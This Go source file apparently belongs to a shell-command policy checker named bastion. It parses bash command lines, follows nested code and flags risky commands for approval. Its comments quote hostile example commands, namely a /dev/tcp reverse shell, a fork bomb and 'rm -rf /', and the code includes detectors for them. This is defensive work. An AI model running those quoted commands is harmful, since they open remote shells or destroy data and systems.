package shellpolicy

import (
	"fmt"
	"slices"
	"strings"
	"sync"

	"github.com/bastion-dev/bastion/policy"
	"mvdan.cc/sh/v3/syntax"
)

const (
	maxDepth    = 8      // nested code: bash -c in bash -c, eval, function calls
	maxCommands = 2000   // statements analysed for one Decide
	maxWords    = 100000 // words expanded for one Decide
)

var parsers = sync.Pool{New: func() any { return syntax.NewParser(syntax.Variant(syntax.LangBash)) }}

// analyzer walks one command line for one Decide call.
type analyzer struct {
	p        *Policy
	in       Input
	src      string // source the current positions refer to
	pos      string // when set, the position every finding reports (inside nested code)
	depth    int
	steps    int
	expanded int // words expanded, against maxWords

	findings []Finding
	funcs    map[string]*funcDef
	calling  map[*syntax.FuncDecl]bool
	procs    map[*syntax.ProcSubst]*stream // what each process substitution outputs
	written  map[string][]string           // texts the command line writes to files, by path (see scripts.go)
	defs     []*funcDef                    // every function defined, in order
	complex  bool                          // maxCommands was reached
}

type funcDef struct {
	decl     *syntax.FuncDecl
	src      string // the code it is defined in
	pos      string // a.pos where it is defined (inside nested code)
	sc       *scope // the scope it is defined in
	analysed bool   // its body was analysed at a call
}

func newAnalyzer(p *Policy, in Input) *analyzer { return &analyzer{p: p, in: in} }

// frame gathers what one statement does, for one Finding.
type frame struct {
	pos     string
	argv    []string  // the command as shown in the finding
	name    string    // the command name, for messages
	hits    []hit     //
	targets []string  // paths it deletes or writes
	layers  [][]field // the command at each wrapper layer, for matchers
	show    bool      // a command ran here (not only nested code)
	netStd  bool      // standard input or output is redirected to the network
}

func (a *analyzer) hit(fr *frame, rule, arg string) {
	fr.hits = append(fr.hits, hit{rule: rule, arg: arg, cmd: fr.name})
}

func (a *analyzer) newFrame(n syntax.Node) *frame {
	if a.pos != "" {
		return &frame{pos: a.pos}
	}
	p := n.Pos()
	return &frame{pos: fmt.Sprintf("%d:%d", p.Line(), p.Col())}
}

// endFrame matches the policy's rules on what the statement ran and records
// its finding.
func (a *analyzer) endFrame(fr *frame) {
	a.reverseShell(fr)
	for _, argv := range fr.layers {
		if dryRun(argv) {
			continue // a dry run changes nothing: the risky-operation rules do not apply
		}
		name, _ := commandName(argv[0].s)
		if l := strings.ToLower(name); l != name && a.p.byName[l] != nil {
			name = l
		}
		rules := a.p.byName[name]
		for _, list := range [][]*rule{rules, a.p.anyName} {
			for _, r := range list {
				v := r.pick(a.in)
				if v == nil || v.disabled {
					continue
				}
				for _, m := range v.match {
					if ok, maybe := m.match(name, argv[1:], fr.targets); ok {
						fr.hits = append(fr.hits, hit{rule: r.id, arg: subcommand(argv), maybe: maybe, cmd: name})
						break
					}
				}
			}
		}
	}
	if !fr.show && len(fr.hits) == 0 {
		return
	}
	res := a.p.strictest(fr.hits, a.in, fr.name)
	argv, copied := fr.argv, false
	for i, s := range argv {
		if h := human(s); h != s {
			if !copied {
				argv, copied = append([]string(nil), argv...), true
			}
			argv[i] = h
		}
	}
	f := Finding{Command: argv, Result: res, Pos: fr.pos}
	if res.Decision == policy.Approve {
		f.Approvals = a.approvals(fr, res)
	}
	a.findings = append(a.findings, f)
}

// approvals lists every rule that asks to approve the command of fr, each
// once, res (the strictest) first: an approver must see all of them, not
// only the one that speaks for the command.
func (a *analyzer) approvals(fr *frame, res policy.Result) []policy.Result {
	out := []policy.Result{res}
	for _, h := range fr.hits {
		r, ok := a.p.result(h, a.in, fr.name)
		if ok && r.Decision == policy.Approve && !slices.ContainsFunc(out, func(o policy.Result) bool { return o.Rule == r.Rule }) {
			out = append(out, r)
		}
	}
	return out
}

// dryRun reports --dry-run (kubectl, helm, git push, apt...) other than
// kubectl's --dry-run=none, which is a real run.
func dryRun(argv []field) bool {
	for _, f := range argv[1:] {
		if f.s == "--" {
			return false
		}
		if f.s == "--dry-run" || strings.HasPrefix(f.s, "--dry-run=") && f.s != "--dry-run=none" && f.s != "--dry-run=false" {
			return true
		}
	}
	return false
}

// reverseShell turns a network redirection on a shell (bash -i >&
// /dev/tcp/HOST/PORT 0>&1) or on exec without a command (which rewires the
// shell itself) into a reverse shell.
func (a *analyzer) reverseShell(fr *frame) {
	var net string
	for _, h := range fr.hits {
		if h.rule == ruleNetRedirect {
			net = h.arg
			break
		}
	}
	if net == "" {
		return
	}
	if len(fr.layers) == 0 {
		return
	}
	for _, argv := range fr.layers {
		n, _ := commandName(argv[0].s)
		if shellNames[n] || n == "exec" && len(argv) == 1 && fr.netStd {
			fr.hits = append(fr.hits, hit{rule: ruleReverseShell, arg: net, cmd: n})
			return
		}
	}
}

// subcommand is the first argument that is not a flag, for messages.
func subcommand(argv []field) string {
	for _, f := range argv[1:] {
		if !strings.HasPrefix(f.s, "-") {
			return f.disp
		}
	}
	return strings.Join(display(argv), " ")
}

func display(argv []field) []string {
	out := make([]string, len(argv))
	for i := range argv {
		out[i] = argv[i].disp
	}
	return out
}

// step counts statements; past maxCommands the rest is not analysed and the
// outcome is at least approve.
func (a *analyzer) step() bool {
	a.steps++
	if a.steps > maxCommands {
		a.complex = true
		return false
	}
	return true
}

// run analyses a whole command line.
func (a *analyzer) run(cmd string) {
	cmd = sanitize(cmd)
	f, err := a.parse(cmd)
	if err != nil {
		fr := &frame{pos: "1:1", show: true, argv: []string{cmd}}
		var pe syntax.ParseError
		if perr, ok := err.(syntax.ParseError); ok {
			pe = perr
			fr.pos = fmt.Sprintf("%d:%d", pe.Pos.Line(), pe.Pos.Col())
		}
		a.hit(fr, ruleParseError, err.Error())
		a.endFrame(fr)
		return
	}
	a.src = cmd
	a.stmts(&scope{}, f.Stmts)
	a.uncalled()
}

// uncalled analyses, with unknown arguments, the bodies of the functions
// no call analysed: functions never called (an interactive session may call
// them on a later line) and calls nested too deeply. A definition cannot
// hide anything.
func (a *analyzer) uncalled() {
	for i := 0; i < len(a.defs) && !a.complex; i++ { // analysing a body may define more
		fd := a.defs[i]
		if fd.analysed {
			continue
		}
		src, pos := a.src, a.pos
		a.src, a.pos = fd.src, fd.pos
		fr := a.newFrame(fd.decl)
		b := fd.sc.child()
		b.setArgs(nil)
		a.callBody(b, fd, fr)
		a.endFrame(fr)
		a.src, a.pos = src, pos
	}
}

func (a *analyzer) parse(src string) (*syntax.File, error) {
	p := parsers.Get().(*syntax.Parser)
	defer parsers.Put(p)
	return p.Parse(strings.NewReader(src), "")
}

// outcome is the strictest finding.
func (a *analyzer) outcome() Outcome {
	if a.complex {
		fr := &frame{pos: "1:1", show: true}
		a.hit(fr, ruleTooComplex, "")
		a.endFrame(fr)
	}
	out := Outcome{Findings: a.findings}
	for i, f := range a.findings {
		if i == 0 || better(f.Result, out.Result) {
			out.Result = f.Result
		}
	}
	if len(a.findings) == 0 {
		out.Result = a.p.strictest(nil, a.in, "")
	}
	return out
}

// nested analyses code found inside a command (bash -c, eval, here-docs fed
// to a shell, ssh host 'cmd'). Its findings report the outer position. The
// code reads env's standard input (bash -c 'sh' <<< 'rm -rf /').
func (a *analyzer) nested(env *cmdEnv, code, what string, args []string) {
	fr := env.fr
	if strings.ContainsRune(code, markAny) {
		a.hit(fr, ruleDynamicCommand, what)
		return
	}
	if a.depth >= maxDepth {
		a.hit(fr, ruleTooDeep, what)
		return
	}
	f, err := a.parse(code)
	if err != nil {
		a.hit(fr, ruleParseError, what+": "+err.Error())
		return
	}
	depth, src, pos := a.depth, a.src, a.pos
	a.depth++
	a.src = code
	a.pos = fr.pos
	sc := env.sc.child()
	sc.setArgs(args) // nil args: unknown
	a.block(sc, f.Stmts, env.in)
	a.depth, a.src, a.pos = depth, src, pos
}

func (a *analyzer) srcOf(n syntax.Node) string {
	if w, ok := n.(*syntax.Word); ok && len(w.Parts) == 0 {
		return ""
	}
	start, end := n.Pos(), n.End()
	if !start.IsValid() || !end.IsValid() {
		return "…"
	}
	s, e := int(start.Offset()), int(end.Offset())
	if s < 0 || e > len(a.src) || s > e {
		return "…"
	}
	return a.src[s:e]
}

func (a *analyzer) stmts(sc *scope, list []*syntax.Stmt) *stream {
	var out *stream
	for _, st := range list {
		out = a.stmt(sc, st, nil, false)
	}
	return out
}

// stmt analyses one statement. in is what its standard input carries (nil:
// nothing known); it returns what its standard output carries. andThen is
// true on the left of && (the rest only runs if it succeeded).
func (a *analyzer) stmt(sc *scope, st *syntax.Stmt, in *stream, andThen bool) *stream {
	if !a.step() {
		return nil
	}
	fr := a.newFrame(st)
	in = a.redirects(sc, st, fr, in)
	var out *stream
	switch c := st.Cmd.(type) {
	case nil:
		if len(st.Redirs) > 0 {
			fr.argv = []string{strings.TrimSpace(a.srcOf(st))}
		}
	case *syntax.CallExpr:
		out = a.call(sc, c, fr, in, andThen)
	case *syntax.BinaryCmd:
		out = a.binary(sc, c, in)
	case *syntax.Subshell:
		out = a.block(sc.child(), c.Stmts, in)
	case *syntax.Block:
		out = a.block(sc, c.Stmts, in)
	case *syntax.IfClause:
		a.ifClause(sc, c, in)
	case *syntax.WhileClause:
		a.loop(sc, in, func(sc *scope) {
			a.block(sc, c.Cond, in)
			a.block(sc, c.Do, in)
		}, c)
	case *syntax.ForClause:
		a.forClause(sc, c, in)
	case *syntax.CaseClause:
		a.caseClause(sc, c, in)
	case *syntax.FuncDecl:
		a.funcDecl(sc, c, fr)
	case *syntax.TimeClause:
		if c.Stmt != nil {
			out = a.stmt(sc, c.Stmt, in, andThen)
		}
	case *syntax.CoprocClause:
		a.stmt(sc.child(), c.Stmt, nil, false)
	case *syntax.TestDecl:
		a.stmt(sc.child(), c.Body, nil, false)
	case *syntax.DeclClause:
		a.decl(sc, c, fr)
	default: // arithmetic, tests, let: only substitutions run commands
		a.walkExprs(sc, c)
	}
	if len(fr.hits) > 0 && fr.argv == nil {
		fr.argv = []string{strings.TrimSpace(a.srcOf(st))}
	}
	a.recordWrites(sc, st, out)
	a.endFrame(fr)
	return out
}

// block runs statements in sc; every one of them may read in.
func (a *analyzer) block(sc *scope, list []*syntax.Stmt, in *stream) *stream {
	var out *stream
	for _, st := range list {
		out = a.stmt(sc, st, in, false)
	}
	return out
}

func (a *analyzer) binary(sc *scope, c *syntax.BinaryCmd, in *stream) *stream {
	switch c.Op {
	case syntax.Pipe, syntax.PipeAll:
		// each part of a pipeline runs in a subshell, reading the previous one
		var parts []*syntax.Stmt
		var flat func(s *syntax.Stmt)
		flat = func(s *syntax.Stmt) {
			if b, ok := s.Cmd.(*syntax.BinaryCmd); ok && (b.Op == syntax.Pipe || b.Op == syntax.PipeAll) && len(s.Redirs) == 0 {
				flat(b.X)
				flat(b.Y)
				return
			}
			parts = append(parts, s)
		}
		flat(c.X)
		flat(c.Y)
		for _, p := range parts {
			in = a.stmt(sc.child(), p, in, false)
		}
		return in
	case syntax.AndStmt:
		a.stmt(sc, c.X, in, true)
	default:
		a.stmt(sc, c.X, in, false)
	}
	b := sc.child()
	out := a.stmt(b, c.Y, in, false)
	sc.merge([]*scope{b}, true)
	return out
}

func (a *analyzer) ifClause(sc *scope, c *syntax.IfClause, in *stream) {
	var branches []*scope
	hasElse := false
	for cl := c; cl != nil; cl = cl.Else {
		if len(cl.Cond) == 0 && cl != c {
			hasElse = true
		}
		a.block(sc, cl.Cond, in)
		b := sc.child()
		a.block(b, cl.Then, in)
		branches = append(branches, b)
	}
	sc.merge(branches, !hasElse)
}

// loop analyses a loop body once, after marking what the body assigns as
// possibly unknown: a later iteration sees what an earlier one set.
func (a *analyzer) loop(sc *scope, in *stream, body func(sc *scope), n syntax.Node) {
	sc.forgetAssigned(n)
	b := sc.child()
	body(b)
	sc.merge([]*scope{b}, true)
}

func (a *analyzer) forClause(sc *scope, c *syntax.ForClause, in *stream) {
	switch l := c.Loop.(type) {
	case *syntax.WordIter:
		var items val
		if l.InPos.IsValid() {
			for _, argv := range a.words(sc, l.Items) {
				for _, f := range argv {
					items.alts = appendNew(items.alts, f.s)
				}
			}
		} else if args, ok := sc.positional(); ok {
			items.alts = append(items.alts, args[1:]...)
		} else {
			items = unknownVal
		}
		if len(items.alts) > maxAlts {
			items = unknownVal
		}
		a.loop(sc, in, func(b *scope) {
			b.set(l.Name.Value, items)
			a.block(b, c.Do, in)
		}, c)
	case *syntax.CStyleLoop:
		a.walkExprs(sc, l)
		a.loop(sc, in, func(b *scope) { a.block(b, c.Do, in) }, c)
	}
}

func (a *analyzer) caseClause(sc *scope, c *syntax.CaseClause, in *stream) {
	a.words(sc, []*syntax.Word{c.Word})
	var branches []*scope
	for _, it := range c.Items {
		for _, p := range it.Patterns {
			a.walkExprs(sc, p)
		}
		b := sc.child()
		a.block(b, it.Stmts, in)
		branches = append(branches, b)
	}
	sc.merge(branches, true)
}

// funcDecl records a function. Its body is judged where it is called, with
// the call's arguments; a function no call analysed is judged at the end
// (see uncalled).
func (a *analyzer) funcDecl(sc *scope, c *syntax.FuncDecl, fr *frame) {
	if c.Name == nil {
		// an anonymous function (zsh's "() { ... }") runs where it stands
		b := sc.child()
		b.hasArgs = true
		a.callBody(b, &funcDef{decl: c, src: a.src}, fr)
		return
	}
	name := c.Name.Value
	if a.funcs == nil {
		a.funcs = make(map[string]*funcDef)
	}
	fd := &funcDef{decl: c, src: a.src, pos: a.pos, sc: sc}
	a.funcs[name] = fd
	a.defs = append(a.defs, fd)
	if isForkBomb(name, c.Body) {
		fr.argv = []string{name + "()"}
		a.hit(fr, ruleForkBomb, strings.TrimSpace(a.srcOf(c)))
	}
}

// callBody analyses a function's body. A recursive call is not analysed
// again (its body is being analysed); calls nested deeper than maxDepth are
// not analysed at all, which makes the caller's frame at least approve.
func (a *analyzer) callBody(sc *scope, fd *funcDef, fr *frame) {
	if a.calling[fd.decl] {
		return
	}
	if a.depth >= maxDepth {
		fr.show = true
		name := "an anonymous function"
		if fd.decl.Name != nil {
			name = fd.decl.Name.Value + "()"
		}
		a.hit(fr, ruleTooDeep, name) // and its body is judged on its own at the end
		return
	}
	fd.analysed = true
	if a.calling == nil {
		a.calling = make(map[*syntax.FuncDecl]bool)
	}
	a.calling[fd.decl] = true
	savedSrc := a.src
	a.src = fd.src
	a.depth++
	a.stmt(sc, fd.decl.Body, nil, false)
	a.depth--
	a.src = savedSrc
	delete(a.calling, fd.decl)
}

// isForkBomb reports a function that calls itself in the background or in
// a pipeline: :(){ :|:& };:
func isForkBomb(name string, body *syntax.Stmt) bool {
	found := false
	var walk func(n syntax.Node, spawn bool)
	walk = func(n syntax.Node, spawn bool) {
		syntax.Walk(n, func(n syntax.Node) bool {
			switch n := n.(type) {
			case *syntax.Stmt:
				if n != body && n.Background && !spawn {
					walk(n.Cmd, true)
					return false
				}
			case *syntax.BinaryCmd:
				if (n.Op == syntax.Pipe || n.Op == syntax.PipeAll) && !spawn {
					walk(n, true)
					return false
				}
			case *syntax.CallExpr:
				if spawn && len(n.Args) > 0 && n.Args[0].Lit() == name {
					found = true
				}
			}
			return !found
		})
	}
	walk(body, false)
	return found
}

// walkExprs analyses the command and process substitutions inside n.
func (a *analyzer) walkExprs(sc *scope, n syntax.Node) {
	if n == nil {
		return
	}
	syntax.Walk(n, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.CmdSubst:
			a.block(sc.child(), n.Stmts, nil)
			return false
		case *syntax.ProcSubst:
			a.procSubst(sc, n)
			return false
		}
		return true
	})
}

func (a *analyzer) procSubst(sc *scope, p *syntax.ProcSubst) {
	if a.procs == nil {
		a.procs = make(map[*syntax.ProcSubst]*stream)
	}
	a.procs[p] = a.block(sc.child(), p.Stmts, nil)
}

// cmdSubst analyses $(...) and returns its output when bastion knows it:
// the text echo or printf print, or a here-document cat copies, mktemp's
// temporary path, pwd's working directory (see produce).
func (a *analyzer) cmdSubst(sc *scope, cs *syntax.CmdSubst) (string, bool) {
	out := a.block(sc.child(), cs.Stmts, nil)
	if len(cs.Stmts) != 1 || redirectsOutput(cs.Stmts[0]) || out == nil || out.kind != streamText || len(out.texts) != 1 {
		return "", false
	}
	return strings.TrimRight(out.texts[0], "\n"), true // $(...) drops trailing newlines
}

// redirectsOutput reports a statement whose standard output goes elsewhere
// than to its reader.
func redirectsOutput(st *syntax.Stmt) bool {
	for _, r := range st.Redirs {
		switch r.Op {
		case syntax.RdrIn, syntax.Hdoc, syntax.DashHdoc, syntax.WordHdoc:
		default:
			if r.N == nil || r.N.Value == "1" || r.Op == syntax.RdrAll || r.Op == syntax.AppAll {
				return true
			}
		}
	}
	return false
}

// mktempPath is where mktemp would create its file.
func mktempPath(argv []field) string {
	dir, tmpl, inTmp := "", "", false
	for i := 1; i < len(argv); i++ {
		s := argv[i].s
		switch {
		case s == "-t":
			inTmp = true
		case s == "-p" && i+1 < len(argv):
			i++
			dir = argv[i].s
		case strings.HasPrefix(s, "--tmpdir="):
			dir = strings.TrimPrefix(s, "--tmpdir=")
		case s == "--tmpdir":
			inTmp = true
		case strings.HasPrefix(s, "--suffix="):
		case strings.HasPrefix(s, "-"):
		default:
			tmpl = s
		}
	}
	if tmpl == "" {
		tmpl = "tmp.XXXXXXXXXX"
		inTmp = true
	}
	tmpl = strings.TrimRight(tmpl, "X") + sTok
	switch {
	case dir != "":
		return dir + "/" + tmpl
	case inTmp && !strings.HasPrefix(tmpl, "/"):
		return "/tmp/" + tmpl
	}
	return tmpl
}

// call analyses a simple command.
func (a *analyzer) call(sc *scope, c *syntax.CallExpr, fr *frame, in *stream, andThen bool) *stream {
	for _, as := range c.Assigns {
		a.assign(sc, as, fr, len(c.Args) > 0)
	}
	if len(c.Args) == 0 {
		return nil
	}
	var out *stream
	indirect := !literalWord(c.Args[0])
	for i, argv := range a.words(sc, c.Args) {
		env := &cmdEnv{sc: sc, fr: fr, in: in, andThen: andThen, indirect: indirect, nameSrc: a.srcOf(c.Args[0])}
		if len(argv) == 0 && indirect { // {,} or $EMPTY: nothing runs, but it is written to hide
			fr.show = true
			a.hit(fr, ruleIndirect, env.nameSrc)
		}
		o := a.command(env, argv)
		if i == 0 {
			out = o
		}
	}
	return out
}

// literalWord reports whether w has no expansions: only literal text and
// quotes (globs and ~ are judged on the resolved words).
func literalWord(w *syntax.Word) bool {
	split := *w
	if syntax.SplitBraces(&split) {
		return false
	}
	for _, p := range w.Parts {
		switch p := p.(type) {
		case *syntax.Lit, *syntax.SglQuoted:
		case *syntax.DblQuoted:
			for _, q := range p.Parts {
				if _, ok := q.(*syntax.Lit); !ok {
					return false
				}
			}
		default:
			return false
		}
	}
	return true
}
